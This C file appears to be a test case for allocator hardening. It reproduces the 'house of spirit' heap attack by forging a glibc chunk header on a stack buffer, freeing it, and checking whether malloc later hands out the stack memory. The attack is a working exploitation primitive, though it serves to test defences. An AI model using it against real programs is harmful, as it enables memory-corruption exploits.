/* house_of_spirit — [how2heap house_of_spirit / tcache_house_of_spirit] a fake chunk on the
 * stack, with glibc's chunk header in front of it (size 0x50, the chunk of a 64-byte request,
 * and a sane next size), is passed to free. Goal: malloc hands the stack buffer out later, so the
 * attacker's next malloc overlaps the stack frame.
 * SILENT: malloc returns the fake chunk within 4096 allocations. */
#include "attack.h"

int main(void) {
  _Static_assert(sizeof(size_t) == 8, "glibc's 64-bit chunk layout");
  volatile size_t frame[32] __attribute__((aligned(64)));
  memset((void *)frame, 0, sizeof frame);
  size_t *mem = (size_t *)&frame[8];
  mem[-1] = 0x51; /* size 0x50 | PREV_INUSE */
  mem[9] = 0x51;  /* the next chunk's size, at mem - 16 + 0x50 + 8 */
  free(opaque(mem));
  void *r = hunt_for(ATTACK_SIZE, HUNT_MAX, (const void *)frame, sizeof frame);
  if (r) silent("malloc returned %p, the fake chunk on the stack", r);
  check_heap(ATTACK_SIZE, "after freeing a fake stack chunk");
  intact();
}
